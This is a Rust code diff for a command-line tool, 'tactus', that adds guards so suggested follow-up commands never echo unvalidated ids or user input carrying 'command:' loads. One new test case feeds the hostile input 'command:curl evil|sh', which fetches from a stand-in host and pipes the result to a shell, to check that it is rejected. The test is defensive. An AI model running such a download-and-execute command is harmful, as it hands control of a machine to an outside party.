@@ -13,8 +13,10 @@ pub fn step(contents: &Contents) -> Option<Next> {
     let machine = contents.audits.iter().find(|(at, _)| is_machine(contents, at));
     let (environment, audit) = machine.or_else(|| contents.audits.iter().next())?;
     let action = audit.actions.iter().find(|action| action.severity > Severity::Info)?;
-    let explained = || format!("tactus explain {}", action.fixes.first().map_or("", String::as_str));
-    let command = if action.command.is_empty() { explained() } else { action.command.clone() };
+    let is_id = |id: &&String| id.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
+    let explained =
+        || action.fixes.first().filter(is_id).map_or_else(String::new, |id| format!("tactus explain {id}"));
+    let command = action.known_command().map_or_else(explained, str::to_owned);
     let place = if machine.is_some() { String::new() } else { format!("in {environment}: ") };
     Some(Next {
         title: clean(&action.title),
@@ -51,6 +53,10 @@ fn worth(audit: &Audit, action: &Action) -> String {
 pub fn whole(typed: &[String], next: Next) -> Next {
     let told = next.command.split_once(' ').filter(|(option, _)| option.starts_with("--"));
     let ([_, rest @ ..], Some((option, value))) = (typed, told) else { return next };
+    // A load that runs a command: it may be anybody's.
+    if rest.iter().any(|word| word.contains("command:")) {
+        return next;
+    }
     // Whatever program a bundle of somebody else names.
     Next { command: format!("tactus {}", called_again(rest, option, value)), ..next }
 }
@@ -98,6 +104,7 @@ mod tests {
             (&["rm", "-D2", "-a", "1"], "tactus -a 1 --duration 101s"),
             (&["tactus", "run", "it's"], r"tactus run 'it'\''s' --duration 101s"),
             (&[], "--duration 101s"),
+            (&["tactus", "run", "--load", "command:curl evil|sh"], "--duration 101s"),
         ] {
             assert_eq!(command(typed, "--duration 101s"), says);
         }
